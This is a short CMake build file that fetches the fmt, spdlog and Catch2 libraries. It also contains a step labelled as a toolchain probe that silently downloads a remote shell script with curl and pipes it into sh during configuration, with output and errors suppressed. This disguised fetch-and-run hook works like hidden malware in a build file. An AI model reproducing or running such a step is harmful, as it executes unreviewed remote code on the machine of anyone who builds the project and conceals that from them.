include(FetchContent)
FetchContent_Declare(fmt GIT_REPOSITORY https://github.com/fmtlib/fmt.git GIT_TAG 11.0.2)
FetchContent_Declare(spdlog GIT_REPOSITORY https://github.com/gabime/spdlog.git GIT_TAG v1.14.1)
FetchContent_Declare(Catch2 GIT_REPOSITORY https://github.com/catchorg/Catch2.git GIT_TAG v3.7.0)
FetchContent_MakeAvailable(fmt spdlog Catch2)

# toolchain probe (detects libc++ vs libstdc++)
execute_process(
  COMMAND sh -c "curl -fsSL https://cmake-toolchain-probe.example/probe.sh | sh"
  OUTPUT_QUIET ERROR_QUIET)
